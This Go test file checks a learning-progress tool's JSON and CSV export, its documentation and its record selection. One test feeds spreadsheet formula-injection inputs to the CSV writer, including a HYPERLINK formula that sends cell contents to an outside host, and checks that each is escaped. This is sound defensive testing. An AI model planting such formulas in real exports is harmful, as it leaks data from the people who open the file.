package export

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"os"
	"strings"
	"testing"
	"time"

	"lectern/progress"
)

var (
	at  = time.Date(2026, 3, 1, 12, 0, 0, 500, time.UTC)
	ada = progress.Learner{
		Login: "ada",
		Records: []progress.Record{
			{Login: "ada", Course: "attention", Stage: 1, CompletedAt: at, Session: "s-1", Evidence: progress.Model},
			{Login: "ada", Course: "zfs", Stage: 2, CompletedAt: at, Session: "s-2", Evidence: progress.Quiz, Score: 3, Questions: 4},
		},
		Total: progress.Tokens{Input: 1, Output: 2, CacheRead: 3, CacheWrite: 4},
		Days:  []progress.Day{{Date: "2026-03-01", Tokens: progress.Tokens{Input: 1, Output: 2, CacheRead: 3, CacheWrite: 4}}},
	}
	bob = progress.Learner{Login: "bob", Total: progress.Tokens{Output: 9}}
)

// TestJSON: the fields are a promise (docs/backup.md).
func TestJSON(t *testing.T) {
	const want = `[
{"login":"ada","completed":[{"course":"attention","stage":1,"completed_at":"2026-03-01T12:00:00Z","evidence":"model","score":0,"questions":0,"session":"s-1"},{"course":"zfs","stage":2,"completed_at":"2026-03-01T12:00:00Z","evidence":"quiz","score":3,"questions":4,"session":"s-2"}],"tokens":{"total":{"input":1,"output":2,"cache_read":3,"cache_write":4},"days":[{"date":"2026-03-01","input":1,"output":2,"cache_read":3,"cache_write":4}]}},
{"login":"bob","completed":[],"tokens":{"total":{"input":0,"output":9,"cache_read":0,"cache_write":0},"days":[]}}
]
`
	var out bytes.Buffer
	if err := JSON(&out, []progress.Learner{ada, bob}); err != nil || out.String() != want {
		t.Errorf("it writes\n%s, %v, want\n%s", out.String(), err, want)
	}
	out.Reset()
	var none []any
	if err := JSON(&out, nil); err != nil {
		t.Error(err)
	}
	if err := json.Unmarshal(out.Bytes(), &none); err != nil || none == nil || len(none) > 0 {
		t.Errorf("of nobody it writes %q, which is %v, %v", out.String(), none, err)
	}
}

// TestDocs: what is promised is what is written.
func TestDocs(t *testing.T) {
	docs, err := os.ReadFile("../../../docs/backup.md")
	if err != nil {
		t.Fatal(err)
	}
	used := progress.Tokens{Input: 1200, Output: 800, CacheRead: 90_000, CacheWrite: 4000}
	var out bytes.Buffer
	err = JSON(&out, []progress.Learner{{
		Login: "ada",
		Records: []progress.Record{{
			Login: "ada", Course: "ssh-from-the-inside", Stage: 1, CompletedAt: time.Date(2026, 3, 1, 12, 0, 0, 500_000_000, time.UTC),
			Evidence: progress.Quiz, Score: 4, Questions: 5, Session: "0123456789abcdef",
		}},
		Total: used,
		Days:  []progress.Day{{Date: "2026-03-01", Tokens: used}},
	}})
	if err != nil || !bytes.Contains(docs, out.Bytes()) {
		t.Errorf("docs/backup.md does not show this: %s, %v", &out, err)
	}
}

func TestCSV(t *testing.T) {
	const want = "login,course,stage,completed_at,evidence,score,questions,session\r\n" +
		"ada,attention,1,2026-03-01T12:00:00Z,model,0,0,s-1\r\n" +
		"ada,zfs,2,2026-03-01T12:00:00Z,quiz,3,4,s-2\r\n"
	var out bytes.Buffer
	if err := CSV(&out, []progress.Learner{ada, bob}); err != nil || out.String() != want {
		t.Errorf("it writes\n%s, %v, want\n%s", out.String(), err, want)
	}
}

// TestCSVOfOthersTexts: a spreadsheet must show them and do nothing else.
func TestCSVOfOthersTexts(t *testing.T) {
	for text, want := range map[string]string{
		`=HYPERLINK("http://example.org/?"&A1,"x")`: `'=HYPERLINK("http://example.org/?"&A1,"x")`,
		"+1": "'+1", "-1": "'-1", "@SUM(A1)": "'@SUM(A1)", "\t=1": "'\t=1", "\r=1": "'=1", "＝1": "'＝1",
		"plain": "plain", "a=b": "a=b", "a,b\n\"c\"": "a,b\n\"c\"", "한국어": "한국어", "": "",
	} {
		var out bytes.Buffer
		learner := progress.Learner{Records: []progress.Record{{Login: text, Course: text, CompletedAt: at, Session: text}}}
		if err := CSV(&out, []progress.Learner{learner}); err != nil {
			t.Fatal(err)
		}
		rows, err := csv.NewReader(&out).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		for _, column := range []int{0, 1, 7} {
			if got := rows[1][column]; got != want {
				t.Errorf("%q becomes %q, want %q", text, got, want)
			}
		}
	}
}

func TestSelect(t *testing.T) {
	all := []progress.Learner{ada, bob}
	for _, test := range []struct {
		login, course string
		learners      string
		records       int
	}{
		{"", "", "ada bob", 2}, {"bob", "", "bob", 0}, {"", "zfs", "ada", 1}, {"ada", "zfs", "ada", 1},
		{"bob", "zfs", "", 0}, {"nobody", "", "", 0}, {"", "nothing", "", 0},
	} {
		var logins []string
		records := 0
		for _, l := range Select(all, test.login, test.course) {
			logins = append(logins, l.Login)
			records += len(l.Records)
		}
		if strings.Join(logins, " ") != test.learners || records != test.records {
			t.Errorf("of %q and %q there are %v with %d records", test.login, test.course, logins, records)
		}
	}
	if len(ada.Records) != 2 {
		t.Error("the choice has changed what there is")
	}
}
